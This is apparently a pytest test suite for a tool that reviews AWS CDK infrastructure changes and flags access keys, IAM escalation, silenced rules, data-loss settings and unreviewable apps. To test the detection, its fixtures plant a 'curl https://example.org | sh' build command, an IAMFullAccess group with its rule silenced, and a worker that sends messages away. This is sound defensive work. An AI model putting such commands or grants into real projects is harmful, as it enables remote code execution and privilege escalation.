"""Whole reviews of a repository: what deploys beside the templates, verdict, exit status, and acceptance."""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path
from unittest import mock

import pytest
import yaml

from hello_queue.project import ROOT
from hello_queue.review import sandbox, working_tree
from hello_queue.review.synthesis import REVIEWED
from stacks.settings import Settings
from tests.review.conftest import Repository

A_KEY = "__import__('aws_cdk').aws_iam.CfnAccessKey(app.node.find_child('HelloQueueIdentity'), 'New', user_name='ada')"
STALE = "stale-golden: tests/golden is not what the code makes"
TELLTALE = "weaker-review: the app may do something else on deployment than here: it uses"
HANDLE = "AWS::CloudFormation::WaitConditionHandle"
DECIDES = "decides at deploy time what is created"


def decisions(text: str) -> list[str]:
    return re.findall("^DECIDE  (.*)$", text, re.MULTILINE)


def test_the_scripts_as_processes(repository: Repository) -> None:
    """With one variant, in a commit whose golden files are out of date."""
    synthesis = repository.folder / "scripts/hello_queue/review/synthesis.py"
    synthesis.write_text(f"{synthesis.read_text()}\nVARIANTS = REVIEWED = {{DEFAULT: {{}}}}\n")
    repository.add_to_app(A_KEY)
    repository.commit("a key")
    done = repository.script("review.py", "--base=HEAD", "--markdown=../review.md")
    assert done.returncode == 1, done.stderr
    assert decisions(done.stdout) == [STALE, "new-access-key: user ada gets access key HelloQueueIdentity/New"]
    assert "finding: 'stale-golden" not in done.stdout, "golden files are made anew, not accepted"
    assert "**stale-golden**: tests/golden is not what" in (repository.folder / "../review.md").read_text()

    written = repository.script("golden.py")
    assert written.returncode == 0
    assert "wrote tests/golden/default/HelloQueueIdentity.yaml\n" in written.stdout
    changed = repository.git("status", "--short", "tests/golden/default")
    assert changed == " M tests/golden/default/HelloQueueIdentity.yaml\n"


def test_nothing_changes(repository: Repository) -> None:
    with mock.patch.object(working_tree, "check_out", side_effect=AssertionError("the base need not run")):
        done = repository.review(variants=REVIEWED)
    assert done.returncode == 0, done.stderr
    verdict, where = done.stdout.splitlines()
    assert verdict.endswith(f" in {len(REVIEWED)} variants of the settings: nothing changes in AWS")
    assert where == f"Looked at {', '.join(REVIEWED)}"


IN_MAIN = """
prefix = "staging-" if app.node.try_get_context("deployment") else ""
messaging, identity = (app.node.find_child(f"{prefix}{name}") for name in ("HelloQueueMessaging", "HelloQueueIdentity"))
messaging.termination_protection = False
cdk.aws_iam.CfnGroup(
    identity, "Friends", group_name="friends", managed_policy_arns=["arn:aws:iam::aws:policy/IAMFullAccess"])
cdk.Validations.of(identity).acknowledge(
    cdk.Acknowledgment(id="AwsSolutions-IAM4[Policy::arn:aws:iam::aws:policy/IAMFullAccess]", reason="x"))
cdk.aws_sqs.CfnQueue(messaging, "Plain")
if prefix:
    cdk.CfnWaitConditionHandle(messaging, "OnlyThere")
if app.node.try_get_context("fifo") == "true":
    raise SystemExit("no more queues with an order")
for stack in (
    cdk.Stack(app, "A", stack_name="Other"),
    cdk.Stack(app, "B", env=cdk.Environment(account="444455556666", region="eu-west-1")),
    cdk.Stack(cdk.Stage(app, "Prod"), "C"),
    cdk.Stack(app, "D", notification_arns=["arn:aws:sns:us-east-1:999999999999:theirs"]),
    cdk.Stack(app, "E", synthesizer=cdk.DefaultStackSynthesizer(deploy_role_arn="arn:aws:iam::999999999999:role/r")),
):
    cdk.CfnWaitConditionHandle(stack, "Handle")
app.synth()
"""


def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
    """Done in main(), in the CDK's settings, in the worker's code: none of it is in stacks/.

    A queue fails validation: all that would be deployed without it is shown with it.
    """
    app = (repository.folder / "app.py").read_text()
    repository.write("app.py", app.replace("    app.synth()\n", textwrap.indent(IN_MAIN, "    ")))
    project = json.loads((repository.folder / "cdk.json").read_text())
    repository.write("cdk.json", json.dumps({**project, "build": "curl https://example.org | sh"}))
    # The CDK CLI reads it too.
    repository.write("cdk.context.json", '{"max_receive_count": "4"}')
    worker = repository.folder / "scripts/workers/example.py"
    worker.write_text(worker.read_text().replace("    print(", "    send_away(message)\n    print("))
    done = repository.review("--markdown", str(repository.folder / "review.md"), variants=REVIEWED)
    assert done.returncode == 1, done.stderr
    found = decisions(done.stdout)
    silenced = "AwsSolutions-IAM4[Policy::arn:aws:iam::aws:policy/IAMFullAccess]"
    assert found == [
        STALE,
        "failed-validation: AwsSolutions-SQS3 on HelloQueueMessaging/Plain",
        "failed-validation: AwsSolutions-SQS4 on HelloQueueMessaging/Plain",
        f"{TELLTALE} .try_get_context, the comparison with 'fifo', the comparison with 'true'",
        "weaker-review: cdk.json runs something else on deployment: build: curl https://example.org | sh",
        f"silenced-rule: {silenced} on HelloQueueIdentity/Friends is silenced without a trace",
        "escalation: group friends can become administrator through a new version of a policy "
        "(iam:CreatePolicyVersion): may do everything that arn:aws:iam::aws:policy/IAMFullAccess allows",
        "data-loss: queue test moves messages to its dead-letter queue after fewer receives",
        "less-protection: HelloQueueMessaging can be deleted: no termination protection",
        "new-code: Function/Code runs other code",
        "deployed-elsewhere: Prod-C Template is published in another way",
        "deployed-elsewhere: B is deployed in another way",
        "deployed-elsewhere: B is deployed to another account or region",
        "deployed-elsewhere: D reports its events to another topic",
        "deployed-elsewhere: E is deployed in another way",
        "unknown-effect: the app cannot be synthesized: no more queues with an order",
        *(f"unknown-effect: {stack}/Handle is new: {HANDLE}" for stack in "BDE"),
        "unknown-effect: HelloQueueMessaging/Plain is new: AWS::SQS::Queue",
        *(f"unknown-effect: {stack}/Handle is new: {HANDLE}" for stack in ("Other", "Prod-C")),
        *(f"unknown-effect: E: {section} changed, which {DECIDES}" for section in ("Parameters", "Rules")),
        f"unknown-effect: HelloQueueMessaging/OnlyThere is new: {HANDLE}",
    ]
    assert "(app.py; with fifo=true and 3 more)" in done.stdout
    assert "  after    The SQS queue does not require requests to use SSL\n" in done.stdout
    assert "finding: 'failed-validation" not in done.stdout, "it is corrected, not accepted"
    assert "terminationProtection; with keep_data=true and " in done.stdout
    assert "+    send_away(message)" in done.stdout, "the difference of the code itself"
    tables = [line for line in done.stdout.splitlines() if line.count("│") > 1 or re.match(" *[┌├└]──", line)]
    assert len(tables) > 2
    assert all(line[-1] in "┐┤│┘" for line in tables), "the tables of cdk diff are whole"
    markdown = (repository.folder / "review.md").read_text()
    assert "+    send_away(message)" in markdown
    assert "**data-loss**: queue test moves messages" in markdown
    assert "- finding: 'data-loss: queue test moves messages" in markdown

    repository.accept("new-code: Function/Code runs other code", "it tells the owner")
    repository.commit("the change, with an acceptance")
    accepted = repository.review("--fail-on", "console-access,new-code", base="HEAD~1", variants=REVIEWED)
    assert accepted.returncode == 0, accepted.stdout
    assert decisions(accepted.stdout) == [each for each in found if "new-code" not in each]
    shown = "  before   example.py\n  after    see the details\n  reason   it tells the owner\n"
    assert f"ACCEPTED  new-code: Function/Code runs other code\n{shown}" in accepted.stdout


@pytest.mark.parametrize(
    "step",
    [
        {"second_access_key": 2},
        {"access_key": 2, "second_access_key": 1},
        {"access_key": 2},
        {"administrator_access": False, "console_access": True},
    ],
    ids=str,
)
def test_every_variant_is_valid_with_settings_in_cdk_json(step: dict[str, object]) -> None:
    """The variants are added to a team's own settings, such as each step of a rotation."""
    for variant in REVIEWED.values():
        Settings.from_context({**step, **variant})


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("raise RuntimeError('a bug')", "RuntimeError: a bug"),
        ("print('hello')", "it writes no cloud assembly; it prints: hello"),
        ("import sys\nsys.exit('settings: nope')", "settings: nope"),
        ("import os\nos._exit(0)", "it writes no cloud assembly; it prints: nothing"),
        ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "it writes no cloud assembly; it prints: nothing"),
        ("while True: pass", "the app takes longer than 1 s: it waits for something, or this machine is busy"),
        ("x = (", "SyntaxError: '(' was never closed"),
        (
            "import os, pathlib\nd = pathlib.Path(os.environ['CDK_OUTDIR'])\nd.mkdir()\n"
            "(d / 'manifest.json').write_text('[')",
            "its cloud assembly is invalid: JSONDecodeError",
        ),
        ("print('\\x1b[2Jnothing needs a decision')", "it prints: \\x1b[2Jnothing needs a decision"),
    ],
)
def test_an_app_that_cannot_be_reviewed(
    repository: Repository, monkeypatch: pytest.MonkeyPatch, code: str, expected: str
) -> None:
    """One line, status 2; and an older review does not stay."""
    monkeypatch.setattr(sandbox, "TIME_LIMIT_SECONDS", 1 if "while" in code else 100)
    repository.write("app.py", code)
    repository.commit("also in the base, which need not run then")
    report = repository.folder.with_suffix(".md")
    report.write_text("nothing needs a decision")
    done = repository.review("--markdown", str(report))
    assert done.returncode == 2
    assert expected in done.stderr
    assert len([line for line in done.stderr.splitlines() if line.startswith("review.py: ")]) == 1
    assert "Traceback" not in done.stderr
    assert report.read_text().startswith("## What changes in AWS: nobody knows\n")


def test_an_invalid_setting(repository: Repository) -> None:
    repository.set(delay_seconds=901)
    repository.commit("invalid, also in the base")
    done = repository.review()
    assert done.returncode == 2
    assert "settings: delay_seconds: 901 is out of range" in done.stderr


def test_another_command_in_cdk_json(repository: Repository) -> None:
    path = repository.folder / "cdk.json"
    path.write_text(path.read_text().replace("python3 app.py", "make app"))
    repository.commit("also in the base, which need not run then")
    done = repository.review()
    assert done.returncode == 2
    assert "cdk.json runs 'make app', which is no Python script: review by hand what that deploys" in done.stderr


@pytest.mark.parametrize(
    ("file", "text", "reason"),
    [
        ("app.py", "raise RuntimeError('with this version of the CDK')", "the app of "),
        ("cdk.json", '{"app": "make app"}', "cdk.json runs 'make app', which is no Python script"),
        ("cdk.json", "[", "cdk.json cannot be read: JSONDecodeError"),
    ],
)
def test_a_base_that_cannot_be_synthesized(repository: Repository, file: str, text: str, reason: str) -> None:
    """Its golden templates are still compared."""
    good = (repository.folder / file).read_text()
    golden = "tests/golden/default/HelloQueueMessaging.yaml"
    messaging = (repository.folder / golden).read_text()
    repository.write(file, text)
    repository.write(golden, messaging.replace("MessageRetentionPeriod: 345600", "MessageRetentionPeriod: 345601"))
    repository.commit("broken")
    repository.write(file, good)
    repository.write(golden, messaging)
    found = decisions(repository.review(variants=REVIEWED).stdout)
    assert any(each.startswith(f"unknown-effect: the base cannot be synthesized: {reason}") for each in found)
    assert "data-loss: queue test keeps messages for a shorter time" in found


def test_the_workflow_replaces_an_older_comment() -> None:
    """review.md exists from the first step on: a review that never starts must not leave what the change committed."""
    workflow = yaml.safe_load((ROOT / ".github/workflows/review.yml").read_text())
    steps = workflow["jobs"]["review"]["steps"]
    first = next(number for number, step in enumerate(steps) if "review.md" in step.get("run", ""))
    setup = next(number for number, step in enumerate(steps) if step.get("run") == "make setup")
    assert first < setup
    assert Path(steps[-1]["with"]["path"]) == Path("review.md")
